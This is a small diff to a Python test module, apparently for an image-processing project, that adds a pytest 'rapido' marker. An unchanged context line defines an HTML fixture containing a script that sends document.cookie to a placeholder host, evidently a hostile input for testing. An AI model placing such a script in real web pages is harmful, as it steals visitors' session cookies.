@@ -30,6 +30,8 @@ from prep.sintetico.acta_image import render_acta_image
 from tests.harness.images import padded_jpeg
 from tests.harness.images import tiny_png
 
+pytestmark = pytest.mark.rapido
+
 HTML = b"<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>"
 
 
